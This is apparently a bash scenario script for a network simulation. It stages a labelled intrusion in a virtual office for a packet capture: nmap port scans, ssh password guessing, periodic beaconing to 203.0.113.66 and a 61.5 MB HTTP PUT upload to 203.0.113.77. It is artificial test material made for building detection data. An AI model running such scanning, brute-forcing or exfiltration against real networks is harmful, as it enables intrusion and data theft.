# shellcheck shell=bash
# An office of five people for 23 minutes, and in it one intrusion:
#
#    4:00  10.20.1.14 scans 500 ports of 10.20.1.20, then looks for ssh on all of 10.20.2.0/24
#    7:00  10.20.1.14 guesses the ssh password of an account on 10.20.1.20, then works there in a login session
#    9:30  10.20.1.20 calls 203.0.113.66:8443 by https every 10 s, give or take 2 s, to the end
#   18:30  10.20.1.20 copies 61.5 MB to 203.0.113.77 by http PUT, through an uplink of 5 Mbit/s
SNAP_LEN=82   # the file must stay below 2 MB; every IPv4 header is whole, so TCP is IPv4 only here
export CURL_FAMILY=-4
UPLOAD_BYTES=61500000

# Repetitive on purpose: of each packet a few bytes of this are kept, and random ones would not compress.
make_archive() {
  (set +o pipefail; yes 'customer;order;article;amount;currency' | head -c "$UPLOAD_BYTES" >"$SCRATCH/archive")
}

office_work() {
  start_chrony h11 $'server 10.20.1.2 iburst minpoll 6 maxpoll 6'
  start_chrony h12 $'server fd00:20:1::2 iburst minpoll 6 maxpoll 6'
  person h11 browse 1360 40 70 &
  person h12 browse 1360 35 60 &
  person h13 browse 1360 45 80 &
  person h14 browse 1360 50 90 &
  person h15 poll 1360 55 65 http://wiki.office.test &
  person h13 idle_shell 10.20.1.3 1300 &
}

intruder_looks_around() {
  on h14 timeout 60 nmap -n -sS -T4 --max-rate 200 --top-ports 500 10.20.1.20
  on h14 timeout 100 nmap -n -sS -Pn -T4 --max-retries 1 -p 22 10.20.2.0/24
}

intruder_logs_in() {
  guess_password h14 10.20.1.20 48
  sleep 6
  person h14 type_shell 10.20.1.20 "id" "ls -la /etc | head -40" "cat /etc/services | head -60" "ps aux | head -30"
}

scene() {
  local n
  build_office
  for n in 10 11 12 50; do add_srv "s$n" "$n"; done
  for n in 66 77; do add_out "o$n" "203.0.113.$n"; done
  on router tc qdisc add dev eth2 root tbf rate 5mbit burst 16k latency 300ms
  start_office_servers
  start_sshd h20 "$GUESS_LIMITS"
  start_sshd s10
  start_nginx o77 "listen 80;"
  start_nginx o66 "listen 8443 ssl;"
  make_archive
  start_recording
  start_story
  office_work
  at 60 "typed session"
  person h11 type_shell 10.20.1.3 "cd /etc" "ls" "cat hostname" "df -h" &
  at 130 "names"
  person h12 ask_names &
  at 180 "download"
  person h15 fetch --limit-rate 200k http://mirror.example.org/tool-2.4.tar.xz &
  at 240 "scans"
  intruder_looks_around
  at 420 "guessing"
  intruder_logs_in
  at 570 "beacons"
  person h20 call_home 785 https://203.0.113.66:8443/api &
  at 620 "names"
  person h14 ask_names &
  at 700 "failures"
  person h12 stumble
  at 760 "file copy"
  person h12 copy_files "$SCRATCH/www/page1.html" 10.20.1.3 page.html
  at 900 "typed session"
  person h15 type_shell 10.20.1.3 "ls -l" "du -sh ." "id"
  at 1110 "upload"
  person h20 copy_out "$SCRATCH/archive" http://203.0.113.77/in/archive
  at 1115 "upload done"
  at 1375 "end"
  stop_recording gzip
}
